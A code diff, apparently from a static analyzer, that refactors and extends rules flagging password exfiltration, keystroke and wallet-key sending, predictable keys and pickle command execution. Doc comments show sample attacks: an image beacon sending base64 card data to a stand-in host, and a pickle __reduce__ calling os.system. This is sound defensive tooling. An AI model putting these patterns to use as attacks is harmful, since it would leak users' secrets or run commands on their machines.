@@ -1,11 +1,14 @@
-import { destinationOf } from '../net/classifyHost.ts';
 import type { Behaviour, BehaviourKind } from './behaviour.ts';
 import { does } from './capabilities.ts';
 import { checkSwitchedOff } from './checksOff.ts';
 import { FETCHED, REQUEST, SOCKET_DATA, sourceLabels, TYPED } from './codeLabels.ts';
 import type { Language } from './language.ts';
+import { foreignPictures, isForeign, POSTS } from './foreignSends.ts';
+import { predictableKey } from './predictableKeys.ts';
 import type { Call, Program } from './program.ts';
 import type { CallArg, Range } from './tokenRanges.ts';
+import { walletKeySent } from './walletKeys.ts';
+import { keystrokesSent } from './watchedKeys.ts';
 
 interface Facts {
   readonly program: Program;
@@ -28,6 +31,9 @@ export function doorBehaviours(program: Program, language: Language): Behaviour[
   report('secret-send', 'sends a password that somebody typed to another host', sentPassword(facts));
   report('secret-send', 'puts what somebody typed into the address of a picture', carriedByPicture(facts));
   report('secret-send', 'takes what a browser keeps or sends, and sends it on', takesFromBrowser(facts));
+  report('spy-send', 'tells another machine which keys are pressed', keystrokesSent(program, language));
+  report('secret-send', 'sends the private key of an account', walletKeySent(program));
+  report('predictable-key', 'draws a key from numbers that anybody can draw again', predictableKey(program, language));
   report('decode-execute', 'runs a command when it is unpickled', pickledCommand(facts));
   report('decode-execute', 'spells the name of what it calls in parts', hiddenName(facts));
   report('checks-off', 'believes what nobody signed', checkSwitchedOff(program, language));
@@ -162,9 +168,6 @@ function spellsNothing(program: Program, arg: CallArg): boolean {
   return program.valueOf(arg).text.replaceAll('$X', '').trim() === '';
 }
 
-const POSTS =
-  /^(?:requests|httpx|axios|got|ky|needle|superagent)\.(?:post|put|request|get)$|^(?:fetch|axios|got)$|\.sendBeacon$|^urllib\.request\.urlopen$|^http\.(?:Post|PostForm|Get)$/;
-
 /** A password goes to a host of its own, and nobody looks at the answer. */
 function sentPassword({ program }: Facts): number | undefined {
   return program.calls.find((call) => {
@@ -182,14 +185,8 @@ function namesCookies(program: Program, { from, to }: Range): boolean {
 /** `new Image().src = 'https://x/?d=' + btoa(card)`: a picture that nobody looks at carries it. */
 function carriedByPicture({ program, language }: Facts): number | undefined {
   if (language !== 'js') return undefined;
-  const { tokens, ranges } = program;
-  for (let i = 2; i < tokens.length; i++) {
-    if (tokens[i]?.text !== '=' || tokens[i - 1]?.text !== 'src' || tokens[i - 2]?.text !== '.') continue;
-    const value = { from: i + 1, to: ranges.statementEnd(i + 1, false), key: undefined };
-    if (!isForeign(program, value)) continue;
-    if (program.labelsOf(value) & TYPED || namesCookies(program, value)) return i;
-  }
-  return undefined;
+  return foreignPictures(program).find(({ value }) => program.labelsOf(value) & TYPED || namesCookies(program, value))
+    ?.at;
 }
 
 /** An extension that takes all cookies, or what is sent to every page, and sends on. */
@@ -210,13 +207,6 @@ function takesFromBrowser({ program, language }: Facts): number | undefined {
 function isStatement({ tokens }: Program, { start }: Call): boolean {
   const before = tokens[start - 1];
   return before === undefined || before.kind === 'line' || /^[;{}]$/.test(before.text) || before.text === 'void';
-}
-
-function isForeign(program: Program, arg: CallArg | undefined): boolean {
-  const url = arg && program.valueOf(arg).text;
-  if (url === undefined || !/^(?:https?|wss?):\/\//i.test(url)) return false;
-  const classes = destinationOf(url.replaceAll('$X', 'x'))?.classes;
-  return classes !== undefined && !classes.has('loopback') && !classes.has('private');
 }
 
 /** `def __reduce__(self): return (os.system, ("...",))` */
